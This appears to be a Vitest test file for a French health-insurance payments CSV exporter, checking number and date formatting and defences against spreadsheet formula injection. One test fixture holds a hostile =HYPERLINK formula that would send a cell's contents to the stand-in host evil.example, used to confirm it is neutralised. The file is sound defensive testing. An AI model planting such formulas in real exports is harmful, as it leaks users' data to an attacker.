import { describe, expect, it } from "vitest";
import { decimalComma, inertText, paymentsCsv } from "./export-csv.ts";

describe("paymentsCsv", () => {
  it("writes French numbers and dates, ';' separators, a BOM and quotes where needed", () => {
    const csv = paymentsCsv([
      {
        paymentDate: "2026-07-25",
        careDate: "2026-07-18",
        beneficiaryFirstName: "Sarah",
        beneficiaryLastName: "Mancion",
        careType: "optique",
        professionalName: "Optique du Centre; Lyon",
        chargedCents: 60000,
        baseCents: 15,
        amoCents: 9,
        amcCents: 40923,
        remainingCents: 19068,
        paidTo: "beneficiary",
        paidToFirstName: "Sarah",
      },
    ]);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const [header, row] = csv.slice(1).split("\r\n");
    expect(header).toBe(
      "Date de paiement;Date des soins;Bénéficiaire;Type de soin;Professionnel de santé;Montant payé;Base de remboursement;Part Sécurité sociale;Part mutuelle;Reste à charge;Versé à",
    );
    expect(row).toBe(
      '25/07/2026;18/07/2026;Sarah Mancion;Optique;"Optique du Centre; Lyon";600,00;0,15;0,09;409,23;190,68;Sarah',
    );
  });

  it("formats cents with a decimal comma", () => {
    expect([decimalComma(4500), decimalComma(5), decimalComma(0), decimalComma(-150), decimalComma(123456)]).toEqual([
      "45,00",
      "0,05",
      "0,00",
      "-1,50",
      "1234,56",
    ]);
  });

  it("makes text that a spreadsheet would run as a formula inert, and keeps negative amounts as numbers", () => {
    const csv = paymentsCsv([
      {
        paymentDate: "2026-07-25",
        careDate: "2026-07-18",
        beneficiaryFirstName: "@Sarah",
        beneficiaryLastName: "Mancion",
        careType: "optique",
        professionalName: '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")',
        chargedCents: 6000,
        baseCents: 15,
        amoCents: 9,
        amcCents: 40923,
        remainingCents: -150,
        paidTo: "beneficiary",
        paidToFirstName: "+Sarah",
      },
    ]);
    const row = csv.slice(1).split("\r\n")[1];
    expect(row).toBe(
      `25/07/2026;18/07/2026;'@Sarah Mancion;Optique;"'=HYPERLINK(""https://evil.example/?x=""&A1;""Cliquez"")";60,00;0,15;0,09;409,23;-1,50;'+Sarah`,
    );
  });

  it("prefixes a quote to text starting with =, +, -, @, tab or carriage return, and to nothing else", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r", "\uFF1D"])
      expect(inertText(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const safe of ["Dr Martin", "1+1", " =1", "Jean-Pierre", "", "'déjà"]) expect(inertText(safe)).toBe(safe);
  });
});
